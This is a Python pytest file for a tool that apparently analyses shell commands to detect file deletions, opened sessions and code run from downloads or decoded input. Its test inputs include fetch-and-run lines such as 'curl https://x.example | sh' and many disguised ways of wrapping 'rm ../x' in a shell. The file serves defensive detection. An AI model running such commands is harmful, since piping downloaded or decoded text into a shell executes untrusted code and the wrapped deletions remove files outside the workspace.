"""Shells as programs."""

from __future__ import annotations

import pytest
from support.reading import effects

from enactd.effects.model import DeletePath, Opaque, OpenShell, RunCode


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'rm ../x'", "sh -c 'rm ../x'", "/bin/bash -lc 'rm ../x'", "bash -euo pipefail -c 'rm ../x'", "bash -c -- 'rm ../x'", "zsh -ic 'rm ../x'",
        "dash -c 'rm $1' _ ../x", "bash -c 'rm $0' ../x", "echo 'rm ../x' | sh", "sh <<< 'rm ../x'", "bash -s <<'E'\nrm ../x\nE", "bash <(echo 'rm ../x')",
        "sh -c \"sh -c 'rm ../x'\"", "bash --norc --noprofile -c 'rm ../x'", "bash -O extglob -c 'rm ../x'", "echo 'rm $1' | bash -s ../x", "fish -c 'rm ../x'",
        "ksh -c 'rm ../x'", "bash.exe -c 'rm ../x'", "echo 'rm ../x' | bash -", "echo 'rm ../x' | bash /dev/stdin", "bash +x -c 'rm ../x'", "sh -xc 'rm ../x'",
    ],
)  # fmt: skip
def test_a_shells_text_is_read(command: str) -> None:
    """As an argument, from a pipe, a here-document or a substitution, with any options before it."""
    assert ["/home/u/x"] == [effect.target.path for effect in effects(command) if isinstance(effect, DeletePath)]


@pytest.mark.parametrize("command", ["bash --version", "sh --help", "bash -n script.sh", "fish --version"])
def test_what_runs_nothing_does_nothing(command: str) -> None:
    """Versions, help and syntax checks."""
    assert [] == [e for e in effects(command) if isinstance(e, RunCode | OpenShell | Opaque | DeletePath)]


@pytest.mark.parametrize("command", ["bash", "sh -i", "bash -l", "zsh", "fish"])
def test_a_shell_without_text_is_a_session(command: str) -> None:
    """Later commands are not seen."""
    assert [OpenShell] == [type(effect) for effect in effects(command)]


@pytest.mark.parametrize(
    ("command", "origin"),
    [
        ("curl https://x.example | sh", "download"), ("base64 -d x | bash", "decoded"), ("curl https://x.example | fish", "download"),
        ("bash -c \"$(curl https://x.example)\"", "download"), ("bash /srv/x.sh", "outside"), ("bash x.sh", "workspace"), ("nu script.nu", "workspace"),
    ],
)  # fmt: skip
def test_text_that_is_not_known_says_where_it_comes_from(command: str, origin: str) -> None:
    """A download is a download through any shell."""
    assert origin in {effect.origin for effect in effects(command) if isinstance(effect, RunCode)}


def test_start_files_of_the_command_line_are_run() -> None:
    """`--rcfile` names code."""
    assert "outside" in {e.origin for e in effects("bash --rcfile /srv/rc -i") if isinstance(e, RunCode)}
